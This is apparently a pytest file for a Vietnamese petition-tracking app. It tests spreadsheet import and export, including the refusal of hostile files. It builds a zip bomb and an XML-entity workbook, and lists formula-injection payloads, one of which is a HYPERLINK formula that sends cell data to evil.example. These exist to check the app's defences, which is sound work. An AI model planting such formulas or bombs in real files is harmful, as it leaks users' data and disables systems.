"""Petitions in spreadsheets (issue 17, item 8): a meeting's petitions imported from .xlsx with Vietnamese
headers — all rows or none, every bad row named — hostile files refused cleanly; the listing exported as .xlsx
and CSV (the caller's scope, no cell a spreadsheet would run as a formula)."""
import csv
import io
import zipfile

import openpyxl
import pytest
from sqlalchemy import func, select

from server.db import transaction
from server.journal.models import SessionEvent
from server.petitions import spreadsheet
from server.petitions.models import Petition
from tests.api.test_petitions import SOON, meeting, petition
from tests.factories import add_agency

XLSX = spreadsheet.XLSX


def workbook(rows: list[list], title: list | None = None) -> bytes:
    wb = openpyxl.Workbook()
    ws = wb.active
    for row in ([title] if title else []) + rows:
        ws.append(row)
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def send(c, meeting_id, data: bytes, content_type=XLSX):
    return c.post(f"/api/voter-meetings/{meeting_id}/petitions/import", data=data, content_type=content_type)


def petitions_of(app, meeting_id) -> list[tuple]:
    with app.app_context(), transaction() as s:
        return [tuple(r) for r in s.execute(select(Petition.text, Petition.field, Petition.level, Petition.area)
                                            .where(Petition.meeting_id == meeting_id).order_by(Petition.id))]


def received_entries(app, council_id) -> int:
    with app.app_context(), transaction() as s:
        return s.scalar(select(func.count()).where(SessionEvent.council_id == council_id,
                                                   SessionEvent.kind == "petition.received"))


GOOD = [
    # headers in another order, other case and no diacritics, a column the import does not read
    ["STT", "LĨNH VỰC", "noi dung kien nghi", "Thẩm quyền", "Địa bàn"],
    [1, "Giao thông", "Đề nghị sửa đường liên xã Đông Tây", "Cấp tỉnh", "Thôn Đông"],
    [2, "y te", "Đề nghị xây trạm y tế xã", "xã", "Thôn Tây"],
    [3, "education", "Đề nghị tăng hỗ trợ học phí\ncho học sinh nghèo", "Trung ương", None],
]


def test_a_good_file_imports_every_row(app, council, client_for):
    sec = client_for("athuky")
    m = meeting(sec, council)
    # a title above the header row, as offices' sheets have
    r = send(sec, m, workbook(GOOD, title=["DANH SÁCH KIẾN NGHỊ CỬ TRI SAU KỲ HỌP THỨ 5"]))
    assert r.status_code == 201, r.json
    assert r.json["imported"] == 3
    got = [(c["field"], c["level"], c["area"], c["summary"]) for c in r.json["cases"]]
    assert got == [("transport", "province", "Thôn Đông", "Đề nghị sửa đường liên xã Đông Tây"),
                   ("health", "commune", "Thôn Tây", "Đề nghị xây trạm y tế xã"),
                   ("education", "national", "", "Đề nghị tăng hỗ trợ học phí\ncho học sinh nghèo")]
    assert all(c["code"].startswith("KN-") and c["status"] == "received" for c in r.json["cases"])
    # each on the chain, as one entered by hand
    assert received_entries(app, council.council_id) == 3


def test_a_file_with_bad_rows_is_refused_naming_each(app, council, client_for):
    sec = client_for("athuky")
    m = meeting(sec, council)
    rows = [["Nội dung kiến nghị", "Địa bàn cử tri", "Lĩnh vực", "Thẩm quyền"],
            ["Đề nghị nạo vét kênh", "Thôn Đông", "Môi trường", "Cấp xã"],       # row 2: good
            ["", "Thôn Đông", "Giao thông", "Cấp tỉnh"],                          # row 3: no text
            ["Đề nghị làm cầu", "Thôn Tây", "Cầu cống", "Cấp tỉnh"],              # row 4: no such field
            [None, None, None, None],                                             # row 5: empty, skipped
            ["x" * 5001, "y" * 201, "Giao thông", "Quận"]]                        # row 6: three bad cells
    r = send(sec, m, workbook(rows))
    assert r.status_code == 422, r.json
    assert r.json["imported"] == 0 and "3 dòng" in r.json["error"]["message_vi"]
    named = {(e["row"], e["column"]) for e in r.json["errors"]}
    assert named == {(3, "Nội dung kiến nghị"), (4, "Lĩnh vực"), (6, "Nội dung kiến nghị"), (6, "Địa bàn cử tri"),
                     (6, "Thẩm quyền")}
    assert all(e["message_vi"] and e["message_en"] for e in r.json["errors"])
    assert "Cầu cống" in next(e["message_vi"] for e in r.json["errors"] if e["row"] == 4)
    # nothing imported, not even the good row; nothing on the chain
    assert petitions_of(app, m) == [] and received_entries(app, council.council_id) == 0
    # a missing column is named
    r = send(sec, m, workbook([["Nội dung kiến nghị", "Địa bàn"], ["Đề nghị", "Thôn"]]))
    assert r.status_code == 422 and {e["column"] for e in r.json["errors"]} == {"Lĩnh vực", "Thẩm quyền"}
    r = send(sec, m, workbook([["STT", "Ghi chú"], [1, "x"]]))
    assert r.status_code == 422 and r.json["errors"][0]["column"] == "Nội dung kiến nghị"
    assert petitions_of(app, m) == []


def zip_bomb() -> bytes:
    """A workbook whose sheet inflates to 60 MB of spaces (60 KB sent)."""
    good = zipfile.ZipFile(io.BytesIO(workbook(GOOD)))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for info in good.infolist():
            data = good.read(info)
            if info.filename == "xl/worksheets/sheet1.xml":
                data = data.replace(b"<sheetData>", b"<sheetData>" + b" " * 60_000_000, 1)
            z.writestr(info.filename, data)
    return out.getvalue()


def with_entities() -> bytes:
    """A workbook whose sheet declares entities (as a billion laughs does; these expand to a good value,
    "y te": a reader that expands them would import it)."""
    good = zipfile.ZipFile(io.BytesIO(workbook(GOOD)))
    out = io.BytesIO()
    dtd = b'<!DOCTYPE worksheet [<!ENTITY a "y"><!ENTITY b "&a; te">]>'
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for info in good.infolist():
            data = good.read(info)
            if info.filename == "xl/worksheets/sheet1.xml":
                data = dtd + data.replace(b"<t>y te</t>", b"<t>&b;</t>", 1)
            z.writestr(info.filename, data)
    return out.getvalue()


@pytest.mark.parametrize("name, data, content_type, status", [
    ("random bytes", b"\x00\x01not a workbook" * 100, XLSX, 422),
    ("a zip of something else", None, XLSX, 422),
    ("a truncated workbook", None, XLSX, 422),
    ("a workbook sent as JSON", None, "application/json", 415),
    ("too large", b"PK" + b"\x00" * (spreadsheet.MAX_BYTES + 10), XLSX, 413),
    ("a zip bomb", None, XLSX, 413),
    ("entities in the XML", None, XLSX, 422),
])
def test_hostile_files_are_refused_cleanly(app, council, client_for, name, data, content_type, status):
    if name == "a zip of something else":
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w") as z:
            z.writestr("readme.txt", "hello")
        data = out.getvalue()
    elif name == "a truncated workbook":
        data = workbook(GOOD)[:-200]
    elif name == "a workbook sent as JSON":
        data = workbook(GOOD)
    elif name == "entities in the XML":
        data = with_entities()
    elif name == "a zip bomb":
        data = zip_bomb()
        assert len(data) < spreadsheet.MAX_BYTES
    sec = client_for("athuky")
    m = meeting(sec, council)
    r = send(sec, m, data, content_type)
    assert r.status_code == status, (name, r.status_code, r.json)
    assert r.json["error"]["message_vi"] and r.json["error"]["message_en"]
    assert petitions_of(app, m) == []


def test_too_many_rows_are_refused(app, council, client_for):
    sec = client_for("athuky")
    m = meeting(sec, council)
    rows = [GOOD[0]] + [[i, "Giao thông", f"Kiến nghị {i}", "Cấp xã", ""] for i in range(spreadsheet.MAX_ROWS + 1)]
    r = send(sec, m, workbook(rows))
    assert r.status_code == 413 and r.json["error"]["code"] == "too_many_rows"
    assert petitions_of(app, m) == []


def test_export_round_trips_and_keeps_the_scope(app, council, client_for):
    sec = client_for("athuky")
    m = meeting(sec, council)
    assert send(sec, m, workbook(GOOD)).status_code == 201
    agency = add_agency(app, council, "Sở Giao thông vận tải")
    first = sec.get("/api/petitions?field=transport").json["cases"][0]
    assert sec.post(f"/api/petitions/{first['id']}/transfer", {"agency_id": agency, "deadline": SOON}).status_code == 200

    r = sec.get("/api/petitions/export.xlsx")
    assert r.status_code == 200 and r.mimetype == XLSX
    assert "attachment" in r.headers["Content-Disposition"]
    ws = openpyxl.load_workbook(io.BytesIO(r.data), read_only=True).worksheets[0]
    table = [list(row) for row in ws.iter_rows(values_only=True)]
    assert table[0] == list(spreadsheet.EXPORT_HEADERS)
    by_code = {row[0]: row for row in table[1:]}
    assert by_code[first["code"]][5:8] == ["Đã chuyển", "Sở Giao thông vận tải", by_code[first["code"]][7]]
    assert by_code[first["code"]][7].date().isoformat() == SOON

    # re-imported into another meeting: the same texts, fields and levels
    m2 = meeting(sec, council, constituency="Đơn vị bầu cử số 2")
    r2 = send(sec, m2, r.data)
    assert r2.status_code == 201, r2.json
    assert petitions_of(app, m2) and sorted(petitions_of(app, m2)) == sorted(petitions_of(app, m))

    # CSV: UTF-8 with a BOM, the same rows; filters as the listing's
    r = sec.get("/api/petitions/export.csv?field=transport")
    assert r.status_code == 200 and r.mimetype == "text/csv" and r.data.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(r.data.decode("utf-8-sig"))))
    assert rows[0] == list(spreadsheet.EXPORT_HEADERS) and {row[0] for row in rows[1:]} == {
        c["code"] for c in sec.get("/api/petitions?field=transport").json["cases"]}
    assert next(row for row in rows if row[0] == first["code"])[7] == "/".join(reversed(SOON.split("-")))

    # the agency exports only what was sent to it
    rows = list(csv.reader(io.StringIO(client_for("acoquan").get("/api/petitions/export.csv").data.decode("utf-8-sig"))))
    assert [row[0] for row in rows[1:]] == [first["code"]]


def test_formula_injection_is_neutralised(app, council, client_for):
    sec = client_for("athuky")
    m = meeting(sec, council)
    evil = ['=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")', "+1+1", "-2+3", "@SUM(A1:A2)"]
    for text in evil:
        petition(sec, m, text)
    rows = list(csv.reader(io.StringIO(sec.get("/api/petitions/export.csv").data.decode("utf-8-sig"))))
    assert sorted(row[1] for row in rows[1:]) == sorted("'" + t for t in evil)
    # in the workbook they are text cells, never formulas, and read back unchanged
    data = sec.get("/api/petitions/export.xlsx").data
    ws = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
    cells = [ws.cell(row=i, column=2) for i in range(2, ws.max_row + 1)]
    assert all(c.data_type == "s" for c in cells) and sorted(c.value for c in cells) == sorted(evil)
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        assert b"<f>" not in z.read("xl/worksheets/sheet1.xml")


def test_cell_rules():
    assert spreadsheet.inert("=1+1") == "'=1+1" and spreadsheet.inert("Đề nghị") == "Đề nghị"
    assert spreadsheet.inert(5) == 5
    assert spreadsheet.cell_text(12.0) == "12" and spreadsheet.cell_text(None) == ""
    from server.petitions.api import PETITION_FIELDS
    assert spreadsheet.header_columns(["Thẩm Quyền ", "ĐỊA BÀN", "Nội dung kiến nghị:", "Lĩnh vực"], PETITION_FIELDS) == {
        "level": 0, "area": 1, "text": 2, "field": 3}
